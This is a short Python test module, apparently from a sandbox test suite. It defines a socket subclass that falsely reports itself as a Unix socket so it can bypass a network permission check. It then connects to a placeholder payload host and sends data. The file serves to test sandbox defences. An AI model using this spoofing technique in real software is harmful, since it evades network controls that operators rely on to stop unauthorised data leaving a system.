"""A socket that says it is of another family."""
CATEGORY = "races"
REACH = "net"
GRANT = {"net": ["127.0.0.1:1"]}

import socket

from . import payload


class Socket(socket.socket):
    family = property(lambda self: socket.AF_UNIX)
    getpeername = lambda self: "free"


def attack():
    with Socket() as connection:
        connection.connect((payload.HOST, payload.PORT))
        connection.sendall(b"evil")
